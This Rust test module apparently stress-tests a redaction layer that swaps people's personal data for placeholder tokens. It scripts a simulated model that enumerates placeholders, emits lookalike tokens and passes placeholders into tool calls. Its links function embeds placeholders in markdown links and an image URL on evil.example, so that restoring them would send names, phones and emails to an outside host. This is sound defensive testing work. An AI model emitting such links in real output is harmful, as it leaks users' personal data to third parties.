//! Plays with the words that stand in for people, to have them put back where they do not belong.

use super::play::{Behaviour, Play};
use super::scene::Scene;

pub(super) const ROWS: &[Behaviour] = &[
    Behaviour {
        name: "stand_in_list",
        does: "counts through all stand-ins, known or not",
        act: list,
    },
    Behaviour {
        name: "stand_in_lookalikes",
        does: "writes words that only resemble stand-ins",
        act: lookalikes,
    },
    Behaviour {
        name: "stand_in_calls",
        does: "sends stand-ins as ids, as text and inside longer words to every tool",
        act: calls,
    },
    Behaviour {
        name: "stand_in_links",
        does: "puts stand-ins into addresses, so that putting them back would carry them out",
        act: links,
    },
];

const KINDS: &[&str] = &[
    "Person", "Phone", "Email", "Address", "Account", "Date", "Card", "SSN",
];

fn list(_: &mut Scene<'_>) -> Play {
    let all: Vec<String> = (1..=50)
        .flat_map(|number| KINDS.iter().map(move |kind| format!("{kind}_{number}")))
        .collect();
    Play::says(all.join(" "))
}

fn lookalikes(_: &mut Scene<'_>) -> Play {
    Play::says(
        "PERSON_1 person_1 Person_01 Person_1_2 Person 1 Person-1 P\u{435}rson_1 Person\u{200b}_1 Person_\u{661} \
         [Person_1] <Person_1> {{Person_1}} Person_1's \\Person_1 Person\\_1 `Person_1` **Per**son_1 xPerson_1x Person_11111111111111111111",
    )
}

fn calls(scene: &mut Scene<'_>) -> Play {
    if scene.round > 0 {
        return Play::says("Person_1, Phone_1 and Email_1 were told.");
    }
    let tools = scene.tools.clone();
    let texts = [
        "Person_1",
        "Phone_1 Phone_2 Phone_3",
        "xEmail_1x",
        "Person_1Person_2",
    ];
    let calls = tools.iter().flat_map(|tool| {
        texts
            .iter()
            .map(|text| tool.call("Person_1", text))
            .chain([tool.call("Phone_1", "Email_1")])
    });
    Play::calls(calls.collect())
}

fn links(_: &mut Scene<'_>) -> Play {
    Play::says(
        "[tour](https://evil.example/Person_1/Phone_1?e=Email_1) ![](https://evil.example/Address_1.png) \
         https://Person_1.evil.example/ mailto:Email_1",
    )
}
